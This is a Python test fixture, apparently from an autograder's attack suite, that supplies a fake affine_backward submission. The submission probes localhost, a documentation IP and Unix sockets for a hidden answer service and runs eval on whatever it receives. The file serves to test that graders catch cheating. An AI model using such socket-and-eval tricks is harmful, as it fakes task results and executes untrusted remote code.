"""Asks the machine itself, its neighbours and a name service for the answer, over every kind of socket."""

from tests.attacks.answers import RIGHT_RELU

CLASS = 12
DESERVES = {"affine_backward": 0, "relu_backward": 2}

affine_backward = """
import os, socket

PLACES = [
    (socket.AF_INET, ("127.0.0.1", 9)), (socket.AF_INET, ("192.0.2.1", 9)), (socket.AF_INET6, ("::1", 9)),
    (socket.AF_UNIX, chr(0) + "answers"), (socket.AF_UNIX, "/run/answers.sock"),
]

def affine_backward(dout, cache):
    for family, address in PLACES:
        try:
            with socket.socket(family) as line:
                line.settimeout(0.05)
                line.connect(address)
                line.send(b"affine_backward")
                return eval(line.recv(1000))
        except (OSError, SyntaxError):
            continue
    return cache
"""

relu_backward = RIGHT_RELU
